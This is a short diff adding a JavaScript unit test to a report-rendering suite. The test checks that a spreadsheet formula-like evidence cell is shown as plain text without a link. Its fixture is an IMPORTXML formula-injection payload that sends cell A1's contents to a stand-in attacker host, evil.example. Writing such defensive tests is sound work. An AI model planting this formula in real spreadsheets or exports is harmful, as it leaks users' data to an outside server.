@@ -37,3 +37,8 @@ describe('evidence cells in reports', () => {
     expect(row('1.1.2').links).toEqual({ [col]: 'https://drive.google.com/file/d/mau-24-25/view' });
   });
 });
+
+test('a formula-like cell is printed as typed, without a link (Kiểm tra warns about it)', () => {
+  const cell = '=IMPORTXML("http://evil.example/?q="&A1,"//a")';
+  expect(evidenceText(cell)).toEqual({ text: cell, url: '' });
+});
